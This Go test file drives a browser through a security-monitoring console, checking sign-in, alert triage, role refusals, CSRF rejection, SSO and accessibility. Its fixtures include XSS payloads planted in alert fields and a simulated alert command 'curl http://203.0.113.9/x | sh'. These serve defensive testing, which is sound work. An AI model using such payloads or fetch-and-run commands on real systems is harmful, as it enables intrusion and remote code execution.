package uitest

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"log/slog"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"
	"google.golang.org/protobuf/types/known/timestamppb"

	"github.com/harrier-sec/harrier/api"
	"github.com/harrier-sec/harrier/backend"
	"github.com/harrier-sec/harrier/internal/browsertest"
	"github.com/harrier-sec/harrier/internal/oidctest"
	"github.com/harrier-sec/harrier/internal/testenv"
	"github.com/harrier-sec/harrier/transport"
)

const (
	apiToken   = "ui-test-api-token-0123456789abcdef"
	anaPass    = "analyst password 1"
	vicPass    = "viewer password 12"
	robPass    = "responder password 1"
	ssoPass    = "sso password 12345"
	xssAlertID = "xss-alert"
	shellID    = "shell-alert"
)

// Hostile strings in the places alert data comes from: each would set
// window.__pwned or open a dialog if it ran.
var (
	xssArg   = `<script>window.__pwned="argv";alert(1)</script>`
	xssFile  = `/tmp/<img src=x onerror="window.__pwned='file';alert(2)">.sh`
	xssLabel = `"><svg onload="window.__pwned='label';alert(3)">`
	xssPod   = `web-<iframe src="javascript:alert(4)"></iframe>`
)

// TestConsoleInBrowser signs in, triages an alert and reads the triage
// back after a reload, checks a viewer is refused a change in the UI and
// the API, and that HTML and script planted in alerts' command lines,
// file names and pod labels do not run — against a real backend fed over
// QUIC by a real transport client.
func TestConsoleInBrowser(t *testing.T) {
	b := browsertest.Start(t, 60*time.Second)
	base := startBackend(t)
	addUser(t, base, "ana", "analyst", anaPass)
	addUser(t, base, "vic", "viewer", vicPass)
	addUser(t, base, "rob", "responder", robPass)
	bctx, dialogs := b.Ctx, b.Dialogs
	do := func(what string, steps ...chromedp.Action[chromedp.Void]) {
		t.Helper()
		b.Do(t, what, steps...)
	}
	text := func(sel string) string {
		t.Helper()
		return b.Text(t, sel)
	}
	notPwned := func(where string) {
		t.Helper()
		pwned, err := chromedp.Run(bctx, chromedp.Evaluate[string](`String(window.__pwned)`))
		if err != nil {
			t.Fatalf("read window.__pwned on %s: %v", where, err)
		}
		elems, err := chromedp.Run(bctx, chromedp.Evaluate[int](`document.querySelectorAll("main script, main img, main svg, main iframe").length`))
		if err != nil {
			t.Fatalf("count planted elements on %s: %v", where, err)
		}
		if pwned != "undefined" || elems != 0 || dialogs.Load() != 0 {
			t.Errorf("%s: window.__pwned=%s, %d planted elements, %d dialogs: alert data ran", where, pwned, elems, dialogs.Load())
		}
	}
	signIn := func(user, pw string, shot string) {
		t.Helper()
		do("sign in as "+user,
			chromedp.Navigate(base+"/login"),
			chromedp.WaitVisible(chromedp.ID("username")),
			chromedp.SendKeys(chromedp.ID("username"), user),
			chromedp.SendKeys(chromedp.ID("password"), pw))
		if shot != "" {
			b.Screenshot(t, shot)
		}
		// The sign-in page has a main h1 too: wait for it to go first.
		do("submit the sign-in", chromedp.Click(chromedp.ID("signin")), chromedp.WaitNotPresent(chromedp.ID("signin")),
			chromedp.WaitVisible(chromedp.CSS("main h1")))
		if h1 := text("main h1"); h1 != "Alerts" {
			msg, _ := chromedp.Run(bctx, chromedp.Evaluate[string](`String(document.querySelector(".error")?.innerText)`))
			t.Fatalf("after signing in as %s: page %q: %s", user, h1, msg)
		}
	}

	start := time.Now()
	signIn("ana", anaPass, "console-login.png")
	notPwned("the alert list")

	// The hostile alert: its strings are shown as text, nothing runs.
	do("open the planted alert", chromedp.Navigate(base+"/alerts/"+xssAlertID), chromedp.WaitVisible(chromedp.ID("triage")))
	notPwned("the planted alert's page")
	body := text("main")
	for _, s := range []string{xssArg, xssFile, xssLabel, xssPod} {
		if !strings.Contains(body, s) {
			t.Errorf("planted alert page does not show %q as text", s)
		}
	}

	// Triage: state, assignee and comment, seen again after a reload.
	do("set state and comment", chromedp.Navigate(base+"/alerts/"+shellID), chromedp.WaitVisible(chromedp.ID("triage-save")),
		chromedp.SetValue(chromedp.ID("triage-state-select"), "in_progress"),
		chromedp.SetValue(chromedp.ID("triage-assignee-select"), "ana"),
		chromedp.SendKeys(chromedp.ID("triage-comment"), "Checked with the web team: <b>not</b> a test."),
		chromedp.Click(chromedp.ID("triage-save")), chromedp.WaitVisible(chromedp.CSS("#triage .comment")))
	do("reload the alert", chromedp.Reload(), chromedp.WaitVisible(chromedp.ID("triage")))
	state, assignee, triage := text("#triage-state"), text("#triage-assignee"), text("#triage")
	if state != "in_progress" || assignee != "ana" || !strings.Contains(triage, "Checked with the web team: <b>not</b> a test.") {
		t.Errorf("after reload: state %q, assignee %q, triage part:\n%s", state, assignee, triage)
	}
	if !regexp.MustCompile(`ana\s+state\s+new\s+in_progress`).MatchString(triage) {
		t.Errorf("history lacks ana's state change from new:\n%s", triage)
	}
	notPwned("the triaged alert's page")
	b.Screenshot(t, "console-alert-triage.png")

	// An exception from the alert: the form is prefilled from it; saved,
	// it is listed with the agents that do not have it yet (the test's
	// agent has no control channel handler: it never acknowledges).
	if hasRespond, _ := chromedp.Run(bctx, chromedp.Evaluate[bool](`document.querySelector("#respond button") !== null`)); hasRespond ||
		!strings.Contains(text("#respond"), "may not ask for response actions") {
		t.Errorf("the analyst is offered response actions:\n%s", text("#respond"))
	}
	do("see the exception form (open while the alert has none)", chromedp.WaitVisible(chromedp.ID("exc-save")))
	for id, want := range map[string]string{"exc-namespace": "shop", "exc-image": "nginx:1.27", "exc-process": "/bin/sh",
		"exc-command": "/bin/sh -c curl http://203.0.113.9/x | sh", "exc-detection": "HAR-EXEC-002", "exc-scope": "namespace"} {
		if got, err := chromedp.Run(bctx, chromedp.Value(chromedp.ID(id))); err != nil || got != want {
			t.Errorf("exception form field %s = %q (%v), want %q prefilled from the alert", id, got, err, want)
		}
	}
	do("fill the exception", chromedp.SetValue(chromedp.ID("exc-command"), "/bin/sh -c curl http://203.0.113.9/*"),
		chromedp.SendKeys(chromedp.ID("exc-reason"), "the shop's health check"), chromedp.ScrollIntoView(chromedp.ID("exception")))
	b.Screenshot(t, "console-exception-form.png")
	do("save the exception", chromedp.Click(chromedp.ID("exc-save")), chromedp.WaitVisible(chromedp.ID("exceptions")))
	listed := text("#exceptions")
	for _, want := range []string{"HAR-EXEC-002", "namespace shop", "command /bin/sh -c curl http://203.0.113.9/*", "ana", "the shop's health check", "node-1: not yet"} {
		if !strings.Contains(listed, want) {
			t.Errorf("exception list lacks %q:\n%s", want, listed)
		}
	}
	var excs struct {
		Exceptions backend.ExceptionSet
	}
	apiGet(t, base, "/api/v1/exceptions", &excs)
	if len(excs.Exceptions.Exceptions) != 1 || excs.Exceptions.Exceptions[0].CreatedBy != "ana" || excs.Exceptions.Exceptions[0].AlertID != shellID {
		t.Errorf("exceptions at the backend: %+v", excs.Exceptions)
	}

	// A viewer: no form, and a change forced anyway is refused, by the
	// page and by the API.
	do("sign out", chromedp.Navigate(base+"/logout"), chromedp.WaitVisible(chromedp.ID("username")))
	signIn("vic", vicPass, "")
	do("open the alert as viewer", chromedp.Navigate(base+"/alerts/"+shellID), chromedp.WaitVisible(chromedp.ID("triage")))
	hasForm, err := chromedp.Run(bctx, chromedp.Evaluate[bool](`document.getElementById("triage-save") !== null`))
	if err != nil || hasForm || !strings.Contains(text("#triage"), "may read the triage but not change it") {
		t.Errorf("viewer's alert page: form shown %v (%v):\n%s", hasForm, err, text("#triage"))
	}
	do("post a state change as viewer", chromedp.Evaluate[chromedp.Void](`(() => {
		const f = document.createElement("form"); f.method = "post"; f.action = "/alerts/`+shellID+`/triage";
		const i = document.createElement("input"); i.name = "state"; i.value = "resolved"; f.appendChild(i);
		document.body.appendChild(f); f.submit(); })()`),
		chromedp.WaitVisible(chromedp.CSS(".error")))
	if refusal := text(".error"); !strings.Contains(refusal, "needs the role analyst") {
		t.Errorf("viewer's form post: %q, want a refusal naming the role", refusal)
	}
	// The API with the viewer's browser session: the page's CSP lets no
	// script fetch, so the request goes from here with the browser's
	// cookie, which is HttpOnly and SameSite=Strict.
	cookies, err := chromedp.Call(bctx, network.GetCookies, network.GetCookiesParams{})
	if err != nil {
		t.Fatal(err)
	}
	var session *network.Cookie
	for _, c := range cookies.Cookies {
		if c.Name == "harrier_session" {
			session = c
		}
	}
	if session == nil || !session.HTTPOnly || session.SameSite != network.CookieSameSiteStrict {
		t.Fatalf("session cookie %+v: want HttpOnly and SameSite=Strict", session)
	}
	req, _ := http.NewRequest(http.MethodPost, base+"/api/v1/alerts/"+shellID+"/triage", strings.NewReader(`{"state":"resolved"}`))
	req.Header.Set("Cookie", "harrier_session="+session.Value)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	refusal, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusForbidden || !strings.Contains(string(refusal), "needs the role analyst") {
		t.Errorf("viewer's API call: %d %s, want 403 naming the role", resp.StatusCode, refusal)
	}
	var got struct{ Triage backend.Triage }
	apiGet(t, base, "/api/v1/alerts/"+shellID+"/triage", &got)
	if got.Triage.State != "in_progress" {
		t.Errorf("after the viewer's attempts the state is %q", got.Triage.State)
	}

	// A responder asks for a response from the alert: the confirmation
	// says what will happen to what; confirmed, the command is recorded
	// and shown pending (this test's agent answers no command: the real
	// outcome is tests/e2e's TestRespondFromConsole).
	do("sign out", chromedp.Navigate(base+"/logout"), chromedp.WaitVisible(chromedp.ID("username")))
	signIn("rob", robPass, "")
	do("open the alert as responder", chromedp.Navigate(base+"/alerts/"+shellID), chromedp.WaitVisible(chromedp.ID("respond")),
		chromedp.Click(chromedp.CSS("#respond button.respond-kill-process-tree")), chromedp.WaitVisible(chromedp.ID("respond-confirm-button")))
	if effect := text("#respond-effect"); !strings.Contains(effect, "sends SIGKILL to process 4243 (/bin/sh, started") {
		t.Errorf("confirmation says %q", effect)
	}
	do("give a reason", chromedp.SendKeys(chromedp.ID("respond-reason"), "web shell on shop"))
	b.Screenshot(t, "console-response-confirm.png")
	do("confirm", chromedp.Click(chromedp.ID("respond-confirm-button")), chromedp.WaitVisible(chromedp.ID("command-state")))
	if st := text("#command-state"); st != "pending" {
		t.Errorf("command state %q, want pending", st)
	}
	cmdURL, err := chromedp.Run(bctx, chromedp.Evaluate[string](`location.pathname`))
	if err != nil || !strings.HasPrefix(cmdURL, "/response/commands/cmd-") {
		t.Errorf("after confirming: at %q (%v)", cmdURL, err)
	}
	var cmds struct{ Commands []backend.CommandRecord }
	apiGet(t, base, "/api/v1/response/commands", &cmds)
	if len(cmds.Commands) != 1 || cmds.Commands[0].RequestedBy != "rob" || cmds.Commands[0].AgentID != "node-1" ||
		cmds.Commands[0].Target.PID != 4243 || cmds.Commands[0].Reason != "web shell on shop" || cmds.Commands[0].State != backend.CommandPending {
		t.Errorf("commands at the backend: %+v", cmds.Commands)
	}
	do("the alert lists its command", chromedp.Navigate(base+"/alerts/"+shellID), chromedp.WaitVisible(chromedp.ID("respond-commands")))
	if row := text("#respond-commands"); !strings.Contains(row, "kill-process-tree") || !strings.Contains(row, "rob") || !strings.Contains(row, "pending") {
		t.Errorf("the alert's commands: %s", row)
	}

	// Sign-in with the site's identity provider: the button, the
	// provider's own form, and back in the console as oidc:<email> with
	// the role of the user's group.
	do("sign out", chromedp.Navigate(base+"/logout"), chromedp.WaitVisible(chromedp.ID("oidc-signin")))
	if b := text("#oidc-signin"); b != "Sign in with Example SSO" {
		t.Errorf("OIDC button says %q", b)
	}
	do("sign in with the provider", chromedp.Click(chromedp.ID("oidc-signin")), chromedp.WaitVisible(chromedp.CSS(`form[action="/login/username"]`)),
		chromedp.SendKeys(chromedp.ID("username"), "sso-ana"), chromedp.SendKeys(chromedp.ID("password"), ssoPass),
		chromedp.Click(chromedp.CSS(`form[action="/login/username"] button[type=submit]`)))
	var where string
	testenv.WaitFor(t, 15*time.Second, "back in the console's alert list after the provider", func() bool {
		where, _ = chromedp.Run(bctx, chromedp.Evaluate[string](`location.pathname + " " + String(document.querySelector("main h1")?.innerText)`))
		return where == "/ Alerts"
	})
	do("who am I", chromedp.Navigate(base+"/api/v1/me"), chromedp.WaitVisible(chromedp.CSS("body")))
	if me := text("body"); !strings.Contains(me, `"user":"oidc:sso-ana@example.test"`) || !strings.Contains(me, `"role":"analyst"`) {
		t.Errorf("/api/v1/me after OIDC sign-in: %s", me)
	}
	t.Logf("browser steps took %v", time.Since(start).Round(time.Millisecond))
}

// startBackend runs a backend with certificates as `harrier certs` makes
// them and feeds it the test's alerts over QUIC from a transport client.
func startBackend(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	pki := filepath.Join(dir, "pki")
	if _, _, err := transport.InitCA(pki); err != nil {
		t.Fatal(err)
	}
	if err := transport.IssueBackendCert(pki, []string{"127.0.0.1"}); err != nil {
		t.Fatal(err)
	}
	if err := transport.IssueAgentCert(pki, "node-1", "agent"); err != nil {
		t.Fatal(err)
	}
	log := slog.New(slog.NewTextHandler(t.Output(), &slog.HandlerOptions{Level: slog.LevelWarn}))
	// The site's identity provider: a real OpenID Provider on loopback that
	// knows the console by its callback on the API's port.
	apiAddr := net.JoinHostPort("127.0.0.1", strconv.Itoa(testenv.FreePorts(t, 1)[0]))
	client := oidctest.Client{ID: "harrier-console", Secret: "console-secret", RedirectURL: "http://" + apiAddr + "/oidc/callback"}
	idp := oidctest.Start(t, client, oidctest.User{ID: "u-sso", Username: "sso-ana", Password: ssoPass, Email: "sso-ana@example.test", Groups: []string{"soc-analysts"}})
	secret := filepath.Join(dir, "oidc-client-secret")
	if err := os.WriteFile(secret, []byte(client.Secret), 0o600); err != nil {
		t.Fatal(err)
	}
	cfg := backend.FileConfig{DataDir: dir, Backend: backend.Config{APIAddr: apiAddr, IngestAddr: "127.0.0.1:0", Token: apiToken,
		OIDC: &backend.OIDCConfig{ProviderName: "Example SSO", Issuer: idp.Issuer, ClientID: client.ID, ClientSecretFile: secret,
			RedirectURL: client.RedirectURL, Roles: map[string]backend.Role{"soc-analysts": backend.RoleAnalyst}}}}.Resolved()
	svc, err := backend.NewService(cfg, log)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- svc.Run(ctx) }()
	t.Cleanup(func() {
		cancel()
		if err := <-done; err != nil {
			t.Errorf("backend: %v", err)
		}
	})
	clientTLS, err := transport.ClientTLS(filepath.Join(pki, "agent.crt"), filepath.Join(pki, "agent.key"), filepath.Join(pki, "ca.crt"), "127.0.0.1")
	if err != nil {
		t.Fatal(err)
	}
	src := &spool{pending: testAlerts()}
	cl, err := transport.NewClient(transport.ClientConfig{Addr: svc.IngestAddr().String(), TLS: clientTLS, AgentID: "node-1",
		BackoffMin: 20 * time.Millisecond, BackoffMax: 200 * time.Millisecond, HeartbeatInterval: time.Hour, PollInterval: 20 * time.Millisecond}, src, log)
	if err != nil {
		t.Fatal(err)
	}
	cctx, stop := context.WithCancel(context.Background())
	clientDone := make(chan error, 1)
	go func() { clientDone <- cl.Run(cctx) }()
	testenv.WaitFor(t, 20*time.Second, "the agent's alerts acked", func() bool { return src.left() == 0 })
	stop()
	<-clientDone
	return "http://" + svc.APIAddr().String()
}

func testAlerts() []*api.Record {
	now := time.Now()
	shell := &api.Alert{Id: shellID, DetectionId: "HAR-EXEC-002", Name: "Shell spawned by a web server", Severity: api.Severity_SEVERITY_HIGH,
		FirstSeen: timestamppb.New(now.Add(-time.Minute)), LastSeen: timestamppb.New(now), Count: 1, Node: "node-1",
		Summary:     "nginx (pid 4242) started /bin/sh -c 'curl http://203.0.113.9/x | sh' in shop/web-7d9f",
		Description: "A web server process started a shell: the usual first step of a web shell or an exploited request handler.",
		Container: &api.Container{Id: "3f2a9c", Name: "web", PodName: "web-7d9f", PodNamespace: "shop", Image: "nginx:1.27",
			Cgroup: "/kubepods/besteffort/pod7d9f/3f2a9c"},
		Process: &api.Process{Tgid: 4243, Exe: "/bin/sh", Args: []string{"/bin/sh", "-c", "curl http://203.0.113.9/x | sh"},
			StartTime: timestamppb.New(now.Add(-2 * time.Minute))},
		Mitre: []*api.Mitre{{Tactic: "Execution", TechniqueId: "T1059.004", Technique: "Unix Shell"}}}
	xssContainer := &api.Container{Id: "c0ffee", Name: xssPod, PodName: xssPod, PodNamespace: "shop",
		Labels: map[string]string{"app": xssLabel, xssLabel: "key"}}
	xss := &api.Alert{Id: xssAlertID, DetectionId: "HAR-FILE-001", Name: "Dropped " + xssArg, Severity: api.Severity_SEVERITY_CRITICAL,
		FirstSeen: timestamppb.New(now), LastSeen: timestamppb.New(now), Count: 1, Node: "node-1",
		Summary: "wrote " + xssFile + " from " + xssArg, Description: xssLabel, Remediation: xssArg,
		Container: xssContainer, Tags: map[string]string{xssLabel: xssArg},
		Process:  &api.Process{Tgid: 7, Exe: xssFile, Args: []string{"sh", "-c", xssArg}, Cwd: xssFile},
		Ancestry: []*api.Ancestor{{Pid: 6, Exe: xssFile, Args: []string{xssArg}}},
		Evidence: []*api.Event{{Kind: api.EventKind_EVENT_KIND_FILE_OPEN, Time: timestamppb.New(now), Node: "node-1", Container: xssContainer,
			Process: &api.Process{Tgid: 7, Exe: xssFile, Args: []string{xssArg}},
			Detail:  &api.Event_FileOpen{FileOpen: &api.FileOpen{Path: xssFile, Write: true, Create: true}}}}}
	var recs []*api.Record
	for i, a := range []*api.Alert{shell, xss} {
		recs = append(recs, &api.Record{Seq: uint64(i + 1), Class: api.RecordClass_RECORD_CLASS_ALERT, Payload: &api.Record_Alert{Alert: a}})
	}
	return recs
}

// spool is an agent's spool in memory: records leave when acked.
type spool struct {
	mu      sync.Mutex
	pending []*api.Record
}

func (s *spool) Pending(_ context.Context, maxRecords, _ int) ([]*api.Record, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return slices.Clone(s.pending[:min(maxRecords, len(s.pending))]), nil
}

func (s *spool) Acked(seqs []uint64) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.pending = slices.DeleteFunc(s.pending, func(r *api.Record) bool { return slices.Contains(seqs, r.GetSeq()) })
	return nil
}

func (s *spool) left() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.pending)
}

func addUser(t *testing.T, base, name, role, password string) {
	t.Helper()
	body, _ := json.Marshal(map[string]string{"name": name, "role": role, "password": password})
	req, _ := http.NewRequest(http.MethodPost, base+"/api/v1/users", bytes.NewReader(body))
	req.Header.Set("Authorization", "Bearer "+apiToken)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusCreated {
		b, _ := io.ReadAll(resp.Body)
		t.Fatalf("add user %s: %d %s", name, resp.StatusCode, b)
	}
}

func apiGet(t *testing.T, base, path string, out any) {
	t.Helper()
	req, _ := http.NewRequest(http.MethodGet, base+path, nil)
	req.Header.Set("Authorization", "Bearer "+apiToken)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if err := json.NewDecoder(resp.Body).Decode(out); err != nil {
		t.Fatalf("GET %s: %v", path, err)
	}
}

// consolePages are the pages every role may open or an admin opens, for
// the accessibility checks.
var consolePages = []string{"/", "/alerts/" + shellID, "/incidents", "/overview", "/events", "/agents", "/findings",
	"/inventory", "/exceptions", "/response", "/exports", "/audit", "/users"}

// TestConsoleAccessible: every page has the skip link and the header,
// nav and main landmarks, and no form control without an accessible name;
// a keyboard alone reaches the alert page's triage form and respond button
// and saves a comment; focus is visible.
func TestConsoleAccessible(t *testing.T) {
	b := browsertest.Start(t, 90*time.Second)
	base := startBackend(t)
	addUser(t, base, "ana", "analyst", anaPass)
	addUser(t, base, "rob", "responder", robPass)
	addUser(t, base, "ada", "admin", "admin password 12")
	signIn := func(user, pw string) { t.Helper(); b.SignIn(t, base, user, pw) }
	eval := func(js string) string { t.Helper(); return b.Eval(t, js) }

	signIn("ada", "admin password 12")
	for _, path := range consolePages {
		b.Do(t, "open "+path, chromedp.Navigate(base+path), chromedp.WaitVisible(chromedp.CSS("main h1")))
		if bad := b.Unlabelled(t); len(bad) > 0 {
			t.Errorf("%s: form controls without an accessible name: %q", path, bad)
		}
		if got := eval(`[document.querySelector("body > a.skip[href='#content']")?.innerText, document.querySelector("header nav a") ? "nav" : "", document.querySelector("main#content") ? "main" : ""].join("|")`); got != "Skip to content|nav|main" {
			t.Errorf("%s: skip link, nav and main: %q", path, got)
		}
	}

	// Keyboard only, as a responder on the alert page.
	signIn("rob", robPass)
	b.Do(t, "open the alert", chromedp.Navigate(base+"/alerts/"+shellID), chromedp.WaitVisible(chromedp.ID("triage")))
	focused := func() string {
		t.Helper()
		return eval(`(() => { const e = document.activeElement; return e.id || (e.tagName + "." + e.className + ":" + (e.innerText || "").trim()); })()`)
	}
	b.Do(t, "first Tab", chromedp.KeyEvent("\t"))
	if f := focused(); !strings.Contains(f, "Skip to content") {
		t.Errorf("the first Tab focuses %q, want the skip link", f)
	}
	if o := eval(`getComputedStyle(document.activeElement).outlineStyle + " " + getComputedStyle(document.activeElement).outlineWidth`); strings.HasPrefix(o, "none") || strings.HasSuffix(o, " 0px") {
		t.Errorf("the focused skip link has outline %q: focus is not visible", o)
	}
	b.Do(t, "follow the skip link", chromedp.KeyEvent("\r"))
	if f := eval(`document.activeElement.id`); f != "content" {
		t.Errorf("after the skip link focus is on %q, want main#content", f)
	}
	var walk []string
	reached := map[string]bool{}
	for range 120 {
		b.Do(t, "Tab", chromedp.KeyEvent("\t"))
		f := focused()
		walk = append(walk, f)
		switch {
		case f == "triage-state-select", f == "triage-comment", f == "triage-save":
			reached[f] = true
		case strings.Contains(f, "respond-kill-process-tree"):
			reached["respond"] = true
		}
		if reached["triage-save"] && reached["respond"] {
			break
		}
	}
	for _, want := range []string{"triage-state-select", "triage-comment", "triage-save", "respond"} {
		if !reached[want] {
			t.Errorf("Tab never reached %s; focus went %q", want, walk)
		}
	}
	// The triage form by keyboard: focus the comment, type, Tab to Save,
	// Enter.
	b.Do(t, "comment by keyboard", chromedp.Focus(chromedp.ID("triage-comment")), chromedp.KeyEvent("typed on the keyboard"),
		chromedp.KeyEvent("\t"))
	if f := focused(); f != "triage-save" {
		t.Fatalf("Tab from the comment reaches %q, want the Save button", f)
	}
	b.Do(t, "save by Enter", chromedp.KeyEvent("\r"), chromedp.WaitVisible(chromedp.CSS("#triage .comment")))
	if got := b.Text(t, "#triage"); !strings.Contains(got, "typed on the keyboard") {
		t.Errorf("the comment saved by keyboard is not shown:\n%s", got)
	}
}

// TestConsoleUsersPage: an admin adds a user on the users page, changes
// its role, issues it an API token that works with that role, and removes
// it, each change audited; a post without the CSRF token and a non-admin
// are refused.
func TestConsoleUsersPage(t *testing.T) {
	b := browsertest.Start(t, 60*time.Second)
	base := startBackend(t)
	addUser(t, base, "ana", "analyst", anaPass)
	addUser(t, base, "rob", "responder", robPass)
	addUser(t, base, "ada", "admin", "admin password 12")
	signIn := func(user, pw string) { t.Helper(); b.SignIn(t, base, user, pw) }
	eval := func(js string) string { t.Helper(); return b.Eval(t, js) }
	signIn("rob", robPass)

	// A non-admin is refused the users page.
	b.Do(t, "open /users as responder", chromedp.Navigate(base+"/users"), chromedp.WaitVisible(chromedp.CSS(".error")))
	if msg := b.Text(t, ".error"); !strings.Contains(msg, "needs the role admin") {
		t.Errorf("responder's /users: %q", msg)
	}

	// The users page, as admin.
	signIn("ada", "admin password 12")
	b.Do(t, "open the users page", chromedp.Navigate(base+"/users"), chromedp.WaitVisible(chromedp.ID("users")))
	for name, role := range map[string]string{"ana": "analyst", "rob": "responder", "ada": "admin"} {
		if got := b.Text(t, "#user-"+name+" .user-role"); got != role {
			t.Errorf("users page: %s is %q, want %s", name, got, role)
		}
	}
	if n := eval(`String(document.querySelectorAll("#remove-ada").length)`); n != "0" {
		t.Error("the admin is offered to remove itself")
	}
	b.Do(t, "add eve", chromedp.SendKeys(chromedp.ID("new-name"), "eve"), chromedp.SetValue(chromedp.ID("new-role"), "analyst"),
		chromedp.SendKeys(chromedp.ID("new-password"), "eve's password 1"), chromedp.Click(chromedp.ID("add-user")),
		chromedp.WaitVisible(chromedp.ID("user-eve")))
	b.Do(t, "make eve a responder", chromedp.SetValue(chromedp.ID("role-eve"), "responder"), chromedp.Click(chromedp.ID("role-save-eve")))
	testenv.WaitFor(t, 10*time.Second, "the page shows eve as responder", func() bool {
		got, err := chromedp.Run(b.Ctx, chromedp.Text(chromedp.CSS("#user-eve .user-role")))
		return err == nil && got == "responder"
	})
	b.Screenshot(t, "console-users.png")
	b.Do(t, "issue eve a token", chromedp.Click(chromedp.ID("token-eve")), chromedp.WaitVisible(chromedp.ID("new-token-value")))
	tok, err := chromedp.Run(b.Ctx, chromedp.Value(chromedp.ID("new-token-value")))
	if err != nil || !strings.HasPrefix(tok, "hrr_") {
		t.Fatalf("issued token %q (%v)", tok, err)
	}
	req, _ := http.NewRequest(http.MethodGet, base+"/api/v1/me", nil)
	req.Header.Set("Authorization", "Bearer "+tok)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	var me struct{ User, Role string }
	_ = json.NewDecoder(resp.Body).Decode(&me)
	resp.Body.Close()
	if me.User != "eve" || me.Role != "responder" {
		t.Errorf("eve's token is %+v, want eve as responder", me)
	}
	// A post without the session's CSRF token changes nothing.
	b.Do(t, "post without CSRF", chromedp.Evaluate[chromedp.Void](`(() => {
		const f = document.createElement("form"); f.method = "post"; f.action = "/users/eve/role";
		const i = document.createElement("input"); i.name = "role"; i.value = "admin"; f.appendChild(i);
		document.body.appendChild(f); f.submit(); })()`), chromedp.WaitVisible(chromedp.CSS(".error")))
	if msg := b.Text(t, ".error"); !strings.Contains(msg, "did not come from this console") {
		t.Errorf("a role change without CSRF: %q", msg)
	}
	// Nor may the admin remove itself, even with a good token.
	b.Do(t, "remove oneself", chromedp.Navigate(base+"/users"), chromedp.WaitVisible(chromedp.ID("users")),
		chromedp.Evaluate[chromedp.Void](`(() => {
		const f = document.createElement("form"); f.method = "post"; f.action = "/users/ada/delete";
		f.appendChild(document.querySelector("input[name=csrf]").cloneNode());
		document.body.appendChild(f); f.submit(); })()`), chromedp.WaitVisible(chromedp.CSS(".error")))
	if msg := b.Text(t, ".error"); !strings.Contains(msg, "you may not remove yourself") {
		t.Errorf("removing oneself: %q", msg)
	}
	b.Do(t, "remove eve", chromedp.Navigate(base+"/users"), chromedp.WaitVisible(chromedp.ID("remove-eve")),
		chromedp.Click(chromedp.ID("remove-eve")), chromedp.WaitNotPresent(chromedp.ID("user-eve")))
	if got := b.Text(t, "#users-done"); got != "Removed eve." {
		t.Errorf("after removing eve the page says %q", got)
	}
	var audit struct {
		Entries []backend.AuditEntry `json:"audit"`
	}
	apiGet(t, base, "/api/v1/audit", &audit)
	seen := map[string]string{}
	for _, e := range audit.Entries {
		if e.Target == "eve" {
			seen[e.Action] = e.User + " " + e.Detail
		}
	}
	for _, act := range []string{"user.add", "user.role", "user.token", "user.remove"} {
		if !strings.HasPrefix(seen[act], "ada") {
			t.Errorf("audit of %s on eve: %q (all: %v)", act, seen[act], seen)
		}
	}
	if !strings.Contains(seen["user.role"], "analyst → responder") {
		t.Errorf("role change audited as %q", seen["user.role"])
	}
}
